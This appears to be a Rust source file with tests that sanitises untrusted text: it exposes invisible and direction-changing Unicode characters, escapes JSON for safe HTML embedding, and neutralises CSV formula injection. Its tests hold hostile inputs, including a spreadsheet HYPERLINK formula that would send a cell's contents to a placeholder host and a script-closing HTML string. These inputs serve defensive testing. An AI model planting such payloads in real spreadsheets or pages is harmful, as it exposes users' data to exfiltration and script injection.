//! What a text of somebody else's becomes, so that it shows as text wherever it is opened.

use std::fmt::Write as _;

/// The text with a visible escape, as `⟨U+202E⟩`, for each character that isn't seen itself or turns the order of the others:
/// controls, line separators, directions, joiners, variation selectors, tags.
pub fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for character in text.chars() {
        if is_invisible(character) {
            // A text takes whatever is written to it.
            let _ = write!(shown, "\u{27e8}U+{:04X}\u{27e9}", u32::from(character));
        } else {
            shown.push(character);
        }
    }
    shown
}

/// JSON with what HTML or a screen could take for its own as `\uXXXX`, which reads back as the same text. Outside of its strings
/// JSON has none of these characters.
pub(crate) fn escaped_json(json: &str) -> String {
    let mut escaped = String::with_capacity(json.len());
    for character in json.chars() {
        if matches!(character, '<' | '>' | '&') || is_invisible(character) {
            for unit in character.encode_utf16(&mut [0; 2]) {
                let _ = write!(escaped, "\\u{unit:04x}");
            }
        } else {
            escaped.push(character);
        }
    }
    escaped
}

/// What a spreadsheet may take for the end of a cell that stands in quotes, since it parts cells by something else than the comma that
/// this file has: where numbers have decimal commas, Excel parts by semicolons.
const ENDS_CELL: [char; 5] = [';', '\t', '|', '\r', '\n'];

/// A cell of a CSV that no spreadsheet takes for a formula, nor for several cells of which one is: an apostrophe stands before what begins
/// like one. OWASP, "CSV Injection", names what that is.
pub(crate) fn no_formula(cell: &str) -> String {
    let mut text = String::with_capacity(cell.len() + 1);
    // A tab or a line end in front may be left out, too.
    if cell.starts_with(['\t', '\r']) {
        text.push('\'');
    }
    for part in cell.split_inclusive(ENDS_CELL) {
        // A quote would begin a cell of its own there, and blanks may be left out.
        let first = part.trim_start_matches(|c: char| c == '"' || c.is_whitespace());
        if first.starts_with(['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}']) {
            text.push('\'');
        }
        text.push_str(part);
    }
    text
}

/// Unicode's format characters (category Cf), line and paragraph separators, controls, and what fills no space.
fn is_invisible(character: char) -> bool {
    character.is_control()
        || matches!(
            character,
            '\u{ad}' | '\u{34f}' | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}' | '\u{890}'..='\u{891}'
                | '\u{8e2}' | '\u{115f}'..='\u{1160}' | '\u{17b4}'..='\u{17b5}' | '\u{180b}'..='\u{180f}'
                | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}'
                | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}'
                | '\u{110bd}' | '\u{110cd}' | '\u{13430}'..='\u{1343f}' | '\u{1bca0}'..='\u{1bca3}'
                | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_not_seen_is_shown_by_its_number() {
        for (text, shown) in [
            ("Ada\u{202e}nhoJ", "Ada⟨U+202E⟩nhoJ"),
            ("a\u{2028}b\nc\u{200b}", "a⟨U+2028⟩b⟨U+000A⟩c⟨U+200B⟩"),
            ("\u{e0041}", "⟨U+E0041⟩"),
            ("Zoë 李 محمد", "Zoë 李 محمد"),
        ] {
            assert_eq!(visible(text), shown);
        }
    }

    #[test]
    fn escaped_json_is_the_same_json() {
        let text = "</script><!-- & \u{2028}\u{202e}\u{e0041} \"quoted\" \\";
        let json = serde_json::json!(text).to_string();
        let escaped = escaped_json(&json);
        assert!(!escaped.contains(['<', '>', '&', '\u{2028}', '\u{202e}']), "{escaped}");
        assert_eq!(serde_json::from_str::<String>(&escaped).ok().as_deref(), Some(text));
    }

    #[test]
    fn what_begins_like_a_formula_is_a_text() {
        for cell in ["=1+1", "+1", "-1", "@SUM(A1)"] {
            assert_eq!(no_formula(cell), format!("'{cell}"));
        }
        for cell in ["", "a=1", "Smith, Ann - Sydney; Perth", "a|b;c", "give -AppId, -ObjectId"] {
            assert_eq!(no_formula(cell), cell);
        }
    }

    #[test]
    fn what_would_be_a_cell_of_its_own_elsewhere_is_a_text_too() {
        for (cell, text) in [
            ("x;=HYPERLINK(\"http://a\"&A1)", "x;'=HYPERLINK(\"http://a\"&A1)"),
            ("x; \"=1", "x;' \"=1"),
            ("a|+1|b\n@SUM(A1)", "a|'+1|b\n'@SUM(A1)"),
            (" =1", "' =1"),
            ("\t=1", "'\t'=1"),
            ("\r1", "'\r1"),
            ("\u{ff1d}1;\u{ff20}x", "'\u{ff1d}1;'\u{ff20}x"),
        ] {
            assert_eq!(no_formula(cell), text);
        }
    }
}
